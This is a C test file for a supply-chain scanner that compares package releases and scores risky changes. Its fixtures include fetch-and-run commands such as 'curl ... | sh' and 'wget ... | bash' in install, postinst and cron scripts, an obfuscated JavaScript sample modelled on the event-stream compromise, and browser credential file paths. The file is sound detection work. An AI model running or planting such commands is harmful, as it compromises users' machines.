/* SPDX-License-Identifier: Apache-2.0 */
#include "release/compare_text.h"
#include "told_releases.h"

#define PAIR(...)            \
    (struct packed[])        \
    {                        \
        __VA_ARGS__,         \
        {                    \
            NULL, NULL, 0, 0 \
        }                    \
    }
#define PACKAGE(...)                                                                          \
    {                                                                                         \
        "package/package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"" __VA_ARGS__ "}", 0, 0 \
    }

/* ---- lifecycle scripts ---- */

Test(compare_package, a_command_at_installation_is_suspicious_and_one_that_builds_is_not)
{
    static const struct {
        const char *before, *after, *want;
        enum trn_verdict verdict;
    } cases[] = {
        {"{\"name\":\"x\"}", "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"node setup.js\"}}",
         "diff.lifecycle-script 50 package.json\n", TRN_VERDICT_SUSPICIOUS},
        {"{\"scripts\":{\"install\":\"node a.js\"}}", "{\"scripts\":{\"install\":\"curl http://h.test | sh\"}}",
         "diff.lifecycle-script 50 package.json\n", TRN_VERDICT_SUSPICIOUS},
        {"{\"scripts\":{\"install\":\"node a.js\"}}", "{\"scripts\":{\"install\":\"node a.js; node b.js\"}}",
         "diff.lifecycle-script 50 package.json\n", TRN_VERDICT_SUSPICIOUS},
        {"{\"name\":\"x\"}", "{\"name\":\"x\",\"scripts\":{\"install\":\"node-gyp rebuild\"}}",
         "diff.lifecycle-script 5 package.json\n", TRN_VERDICT_NOTE},
        {"{\"scripts\":{\"install\":\"node a.js --old\"}}", "{\"scripts\":{\"install\":\"node a.js --new\"}}",
         "diff.lifecycle-script 8 package.json\n", TRN_VERDICT_NOTE},
        {"{\"name\":\"x\"}", "{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}", "", TRN_VERDICT_CLEAN},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++) {
        TRN_AUTO(told_diff_done) struct told_diff t;
        diff_of(&t, release_of(PAIR({"package/package.json", cases[i].before, 0, 0})),
                release_of(PAIR({"package/package.json", cases[i].after, 0, 0})), "diff.");
        cr_expect(trn_str_eq_c(trn_buf_str(&t.lines), cases[i].want), "%s: %s", cases[i].after,
                  trn_buf_str(&t.lines).p);
        cr_expect_eq(t.verdict, cases[i].verdict, "%s: %u", cases[i].after, t.score);
    }
}

Test(compare_package, what_the_script_that_is_run_can_do_decides)
{
    struct packed plain = PACKAGE(), runs = PACKAGE(",\"scripts\":{\"install\":\"node s/a.js || node-gyp rebuild\"}");
    struct packed builds = {"package/s/a.js",
                            "const fs = require('fs'); process.exit(fs.readdirSync('prebuilds').length);\n", 0, 0};
    struct packed fetches = {"package/s/a.js", "require('https').get('https://h.test/x');\n", 0, 0};
    EXPECT_TOLD(PAIR(plain), PAIR(runs, builds), "diff.life", "diff.lifecycle-script 20 package.json\n");
    EXPECT_TOLD(PAIR(plain), PAIR(runs, fetches), "diff.life", "diff.lifecycle-script 50 package.json\n");
    EXPECT_TOLD(PAIR(plain), PAIR(runs), "diff.life", "diff.lifecycle-script 50 package.json\n");
}

/* ---- an icon ---- */

Test(compare_embedded, an_image_that_gains_a_coded_tail_is_suspicious)
{
    static const uint8_t gif[] = {'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0, 0,    0, 0, 0x2c, 0,
                                  0,   0,   0,   1,   0,   1,   0, 0, 2, 2, 0x44, 1, 0, 0x3b};
    static const char abc[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char room[sizeof(gif) + 2001];
    uint64_t seed = 7;
    memcpy(room, gif, sizeof(gif));
    room[sizeof(gif)] = '$';
    for (size_t i = sizeof(gif) + 1; i < sizeof(room); i++) {
        seed = trn_hash64_mix(seed, i);
        room[i] = abc[seed % 64];
    }
    TRN_AUTO(told_diff_done) struct told_diff t;
    diff_of(&t, release_of(PAIR({"x/icon.gif", room, sizeof(gif), 0})),
            release_of(PAIR({"x/icon.gif", room, sizeof(room), 0})), "");
    cr_expect(trn_str_contains(trn_buf_str(&t.lines), TRN_STR("image.trailing-base64 80")), "%s", t.lines.p);
    cr_expect(trn_str_contains(trn_buf_str(&t.lines), TRN_STR("diff.hidden-growth 35")), "%s", t.lines.p);
    cr_expect_geq(t.verdict, TRN_VERDICT_SUSPICIOUS);
}

/* ---- the shape of event-stream: a package inside that cannot be read, and a command at installation ---- */

static const char obfuscated[] =
    "var _0x4f2a=['\\x6c\\x6f\\x67','\\x64\\x61\\x74\\x61','\\x6b\\x65\\x79','\\x61\\x62'];"
    "(function(_0x1b3c,_0x2d4e){while(--_0x2d4e){_0x1b3c.push(_0x1b3c.shift());}})(_0x4f2a,0x1a);"
    "var _0x5e6f=function(_0x7a8b,_0x9c0d){_0x7a8b=_0x7a8b-0x0;var _0x1e2f=_0x4f2a[_0x7a8b];return _0x1e2f;};"
    "var _0x3a4b=Buffer.from(_0x5e6f('0x0'),'hex');module.exports=function(_0x5c6d){return _0x3a4b;};";
#define PLAIN_JS                                                                              \
    "'use strict';\nfunction mapper(stream, options) {\n    const output = options.output;\n" \
    "    stream.on('data', chunk => output.push(chunk));\n    return output;\n}\nmodule.exports = mapper;\n"

Test(compare_script, a_package_that_gains_an_unreadable_dependency_and_a_command)
{
    TRN_AUTO(told_diff_done) struct told_diff t;
    diff_of(&t,
            release_of(PAIR(PACKAGE(",\"dependencies\":{\"through\":\"2\"}"), {"package/index.js", PLAIN_JS, 0, 0})),
            release_of(PAIR(PACKAGE(",\"dependencies\":{\"through\":\"2\",\"flat-map\":\"0.1\"},"
                                    "\"scripts\":{\"postinstall\":\"node node_modules/flat-map/index.js\"}"),
                            {"package/index.js", PLAIN_JS, 0, 0},
                            {"package/node_modules/flat-map/package.json", "{\"name\":\"flat-map\"}", 0, 0},
                            {"package/node_modules/flat-map/index.js", obfuscated, 0, 0})),
            "diff.");
    cr_expect(trn_str_eq_c(trn_buf_str(&t.lines), "diff.lifecycle-script 50 package.json\n"
                                                  "diff.obfuscation 40 index.js\n"
                                                  "diff.new-dependency 25 package.json\n"
                                                  "diff.script-capability 8 index.js\n"),
              "%s", t.lines.p);
    cr_expect_geq(t.verdict, TRN_VERDICT_SUSPICIOUS);
}

Test(compare_script, a_dependency_that_can_be_read_is_a_note)
{
    TRN_AUTO(told_diff_done) struct told_diff t;
    diff_of(&t, release_of(PAIR(PACKAGE(), {"package/index.js", PLAIN_JS, 0, 0})),
            release_of(PAIR(PACKAGE(",\"dependencies\":{\"through\":\"2\"}"), {"package/index.js", PLAIN_JS, 0, 0},
                            {"package/node_modules/through/index.js", PLAIN_JS "// through\n", 0, 0})),
            "diff.");
    cr_expect(trn_str_eq_c(trn_buf_str(&t.lines), "diff.new-dependency 12 package.json\n"), "%s", t.lines.p);
    cr_expect_eq(t.verdict, TRN_VERDICT_NOTE);
}

Test(compare_package, a_dependency_from_a_place_of_its_own_weighs_more_and_one_of_the_same_publisher_less)
{
    EXPECT_TOLD(PAIR(PACKAGE(",\"dependencies\":{\"a\":\"1\"}")),
                PAIR(PACKAGE(",\"dependencies\":{\"a\":\"git+https://h.test/a\"}")), "diff.",
                "diff.new-dependency 28 package.json\n");
    EXPECT_TOLD(PAIR({"package.json", "{\"name\":\"@me/x\"}", 0, 0}),
                PAIR({"package.json", "{\"name\":\"@me/x\",\"dependencies\":{\"@me/y\":\"1\"}}", 0, 0}), "diff.",
                "diff.new-dependency 4 package.json\n");
}

/* ---- unreadable or minified ---- */

Test(compare_script, what_a_minifier_does_is_no_disguise)
{
    TRN_AUTO(trn_buf_done) struct trn_buf plain, small, coded;
    trn_buf_init(&plain, 1u << 20);
    trn_buf_init(&small, 1u << 20);
    trn_buf_init(&coded, 1u << 20);
    for (unsigned i = 0; i < 200; i++) {
        trn_put_fmt(&plain,
                    "function operation%u(argument, other) {\n    return argument.value + other.value * %u;\n}\n", i,
                    i);
        trn_put_fmt(&small, "function o%u(a,b){return a.value+b.value*%u}", i, i);
        trn_put_fmt(&coded, "function _0x%04x(_0xa1b2,_0xc3d4){return _0xa1b2.v+_0xc3d4.v*%u}", i, i);
    }
    struct packed old_one = {"x/a.js", plain.p, plain.n, 0}, new_one = {"x/a.js", small.p, small.n, 0};
    EXPECT_TOLD(PAIR(old_one), PAIR(new_one), "diff.", "diff.obfuscation 12 a.js\n");
    EXPECT_TOLD(PAIR(new_one), PAIR(old_one), "diff.", "");
    new_one = (struct packed){"x/a.js", coded.p, coded.n, 0};
    EXPECT_TOLD(PAIR(old_one), PAIR(new_one), "diff.", "diff.obfuscation 40 a.js\n");
}

/* ---- abilities ---- */

Test(compare_script, a_script_that_can_what_no_script_of_the_release_could)
{
    struct packed reads = {"x/a.js", "const fs = require('fs'); fs.readFileSync('a');\n", 0, 0};
    struct packed goes = {"x/a.js", "const fs = require('fs'), h = require('https'), c = require('child_process');\n",
                          0, 0};
    struct packed other = {"x/b.js", "const h = require('https'), c = require('child_process');\n", 0, 0};
    struct packed test = {"x/test/a.js", "const h = require('https'), c = require('child_process');\n", 0, 0};
    EXPECT_TOLD(PAIR(reads), PAIR(goes), "diff.", "diff.script-capability 40 a.js\n");
    EXPECT_TOLD(PAIR(reads, other), PAIR(goes, other), "diff.", "diff.script-capability 4 a.js\n");
    EXPECT_TOLD(PAIR(reads), PAIR(reads, test), "diff.", "diff.script-capability 3 a.js\n");
    EXPECT_TOLD(PAIR(goes), PAIR(reads), "diff.", "");
}

Test(compare_script, a_set_up_script_runs_when_it_is_installed)
{
    struct packed before = {"x/setup.py", "from setuptools import setup\nsetup(name='x')\n", 0, 0};
    struct packed after = {"x/setup.py",
                           "import subprocess, urllib.request\nfrom setuptools import setup\nsetup(name='x')\n", 0, 0};
    EXPECT_TOLD(PAIR(before), PAIR(after), "diff.", "diff.script-capability 45 setup.py\n");
}

/* ---- maintainer scripts ---- */

Test(compare_package, maintainer_scripts_by_what_they_can_do)
{
    static const struct {
        const char *after, *want;
    } cases[] = {
        {"#!/bin/sh\nset -e\ncurl -s http://a.test/x | sh\n", "diff.maintainer-script 50 postinst\n"},
        {"#!/bin/sh\nset -e\necho x | base64 -d > /usr/lib/x\n", "diff.maintainer-script 35 postinst\n"},
        {"#!/bin/sh\nset -e\nuseradd x\n", "diff.maintainer-script 15 postinst\n"},
        {"#!/bin/sh\nset -e\n# Automatically added by dh_installsystemd/13\nif [ \"$1\" = configure ]; then\n"
         "deb-systemd-helper unmask x.service >/dev/null || true\nupdate-rc.d x defaults\nfi\n"
         "# End automatically added section\n",
         ""},
        /* marks that anybody can write do not hide */
        {"#!/bin/sh\nset -e\n# Automatically added by dh_installsystemd/13\nwget -qO- http://a.test/x | bash\n"
         "# End automatically added section\n",
         "diff.maintainer-script 50 postinst\n"},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++)
        EXPECT_TOLD(PAIR({"./postinst", "#!/bin/sh\nset -e\nexit 0\n", 0, 0}),
                    PAIR({"./postinst", cases[i].after, 0, 0}), "diff.maintainer", cases[i].want);
}

/* ---- contacts ---- */

Test(compare_text, hosts_by_who_can_put_something_there)
{
    static const char before[] = "const h = require('https'); h.get('https://www.known.test/a');\n";
    static const struct {
        const char *url, *want;
    } cases[] = {
        {"https://raw.githubusercontent.com/a/b/main/x", "diff.new-contact 35 a.js\n"},
        {"http://203.0.113.77/x", "diff.new-contact 40 a.js\n"},
        {"https://update.some-name.xyz/x", "diff.new-contact 25 a.js\n"},
        {"https://plain.org/x", "diff.new-contact 8 a.js\n"},
        {"https://other.known.test/x", "diff.new-contact 3 a.js\n"},
        {"https://www.known.test/b", ""},
        {"https://foo.com$/b", ""},
        {"https://db.example.com/b", ""},
        {"http://localhost:3000/b", ""},
        {"http://192.168.1.4/b", ""},
        {"http://www.w3.org/2000/svg", ""},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++) {
        char after[400];
        snprintf(after, sizeof(after), "%sh.get('%s');\n", before, cases[i].url);
        EXPECT_TOLD(PAIR({"x/a.js", before, 0, 0}), PAIR({"x/a.js", after, 0, 0}), "diff.new-contact", cases[i].want);
        snprintf(after, sizeof(after), "%s// see %s for more\n", before, cases[i].url);
        TRN_AUTO(told_diff_done) struct told_diff t;
        diff_of(&t, release_of(PAIR({"x/a.js", before, 0, 0})), release_of(PAIR({"x/a.js", after, 0, 0})), "diff.");
        cr_expect_leq(t.score, 6, "%s in a comment: %u", cases[i].url, t.score);
        EXPECT_TOLD(PAIR({"x/a.md", before, 0, 0}), PAIR({"x/a.md", after, 0, 0}), "diff.", "");
    }
}

Test(compare_text, what_a_host_is_made_of)
{
    static const struct {
        const char *key, *value, *host, *domain;
        enum trn_contact_kind kind;
    } cases[] = {
        {"url", "https://a.b.co.uk:443/x", "a.b.co.uk", "b.co.uk", TRN_CONTACT_PLAIN},
        {"url", "https://user@a.b.org/x", "a.b.org", "b.org", TRN_CONTACT_PLAIN},
        {"domain", "b.org:8443", "b.org", "b.org", TRN_CONTACT_UNUSUAL},
        {"domain", "xn--80ak6aa92e.org", "xn--80ak6aa92e.org", "xn--80ak6aa92e.org", TRN_CONTACT_UNUSUAL},
        {"address", "91.2.3.4:80", "91.2.3.4", "91.2.3.4", TRN_CONTACT_ADDRESS},
        {"address", "10.2.3.4:80", "10.2.3.4", "10.2.3.4", TRN_CONTACT_NONE},
        {"url", "https://x.ngrok.io/a/b/c", "x.ngrok.io", "ngrok.io", TRN_CONTACT_RAW},
        {"command", "powershell", "", "", TRN_CONTACT_NONE},
    };
    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++) {
        struct trn_feature f = {TRN_FEATURE_TEXT, trn_str_of(cases[i].key), trn_str_of(cases[i].value), 1, 0};
        struct trn_named_host h = trn_contact_of(&f);
        cr_expect_eq(h.kind, cases[i].kind, "%s: %s", cases[i].value, trn_contact_words(h.kind));
        if (cases[i].host[0]) {
            cr_expect(trn_str_eq_c(h.host, cases[i].host), "%s", cases[i].value);
            cr_expect(trn_str_eq_c(h.domain, cases[i].domain), "%s: %.*s", cases[i].value, TRN_STR_ARG(h.domain));
        }
    }
}

/* ---- browsers' data ---- */

Test(compare_text, browsers_data_newly_known)
{
    static const char before[] = "const fs = require('fs');\n";
    static const char after[] =
        "const fs = require('fs');\nconst a = ['Google/Chrome/Default/Login Data', 'BraveSoftware', "
        "'Mozilla/Firefox', 'places.sqlite'];\n";
    static const char opens[] = "const fs = require('fs');\nopen('google-chrome', 'microsoft-edge');\n";
    EXPECT_TOLD(PAIR({"x/a.js", before, 0, 0}), PAIR({"x/a.js", after, 0, 0}), "diff.", "diff.browser-data 70 a.js\n");
    EXPECT_TOLD(PAIR({"x/a.js", before, 0, 0}), PAIR({"x/a.js", opens, 0, 0}), "diff.", "");
    EXPECT_TOLD(PAIR({"x/a.js", after, 0, 0}), PAIR({"x/a.js", before, 0, 0}, {"x/b.js", after, 0, 0}), "diff.", "");
}

/* ---- what starts by itself, and rights ---- */

Test(compare_service, what_newly_starts)
{
    struct packed none = {"usr/bin/x", "#!/bin/sh\nexit 0\n", 0, 0755};
    struct packed unit = {"usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x -a\n", 0, 0};
    struct packed moved = {"lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x -a\n", 0, 0};
    struct packed option = {"usr/lib/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/x -b\n", 0, 0};
    struct packed other = {"usr/lib/systemd/system/x.service", "[Service]\nExecStart=/tmp/y\n", 0, 0};
    struct packed waits = {"usr/lib/systemd/system/x-more.socket", "[Socket]\nListenStream=1\nService=x.service\n", 0,
                           0};
    struct packed job = {"etc/cron.d/x", "* * * * * root curl -s http://a.test | sh\n", 0, 0};
    EXPECT_TOLD(PAIR(none), PAIR(none, unit), "diff.autostart", "diff.autostart 28 x.service\n");
    EXPECT_TOLD(PAIR(none, moved), PAIR(none, unit), "diff.autostart", "");
    EXPECT_TOLD(PAIR(none, unit), PAIR(none, option), "diff.autostart", "diff.autostart 8 x.service\n");
    EXPECT_TOLD(PAIR(none, unit), PAIR(none, other), "diff.autostart", "diff.autostart 45 x.service\n");
    EXPECT_TOLD(PAIR(none, unit), PAIR(none, unit, waits), "diff.autostart", "diff.autostart 10 x-more.socket\n");
    EXPECT_TOLD(PAIR(none), PAIR(none, job), "diff.autostart", "diff.autostart 45 x\n");
}

Test(compare_service, rights_of_one_file_weigh_and_of_all_do_not)
{
    struct packed plain = {"usr/bin/x", "#!/bin/sh\nexit 0\n", 0, 0755};
    struct packed set = {"usr/bin/x", "#!/bin/sh\nexit 0\n", 0, 04755};
    struct packed moved = {"usr/sbin/x", "#!/bin/sh\nexit 0\n", 0, 04755};
    struct packed all[10] = {{0}}, open[10] = {{0}};
    char names[9][16];
    for (size_t i = 0; i < 9; i++) {
        snprintf(names[i], sizeof(names[i]), "x/%zu.txt", i);
        all[i] = (struct packed){names[i], names[i], 0, 0644};
        open[i] = (struct packed){names[i], names[i], 0, 0666};
    }
    EXPECT_TOLD(PAIR(plain), PAIR(set), "diff.", "diff.privilege 40 x\n");
    EXPECT_TOLD(PAIR(set), PAIR(moved), "diff.", "");
    EXPECT_TOLD(all, open, "diff.", "diff.privilege 4 0.txt\n");
}

/* ---- built files and their sources ---- */

Test(compare_embedded, a_built_file_that_gained_something_its_source_has_not)
{
    struct packed source = {"x/src/a.ts", "export const a: number = 1;\n", 0, 0};
    struct packed source2 = {"x/src/a.ts", "export const a: number = 2;\n", 0, 0};
    struct packed built = {"x/dist/a.js", "exports.a = 1; require('https');\n", 0, 0};
    struct packed version = {"x/dist/a.js", "exports.a = 2; require('https');\n", 0, 0};
    struct packed turned = {"x/dist/a.js", "exports.a = 1; require('https'); require('child_process');\n", 0, 0};
    EXPECT_TOLD(PAIR(source, built), PAIR(source, turned), "diff.built", "diff.built-alone 45 a.js\n");
    EXPECT_TOLD(PAIR(source, built), PAIR(source, version), "diff.built", "diff.built-alone 8 a.js\n");
    EXPECT_TOLD(PAIR(source, built), PAIR(source2, turned), "diff.built", "");
}
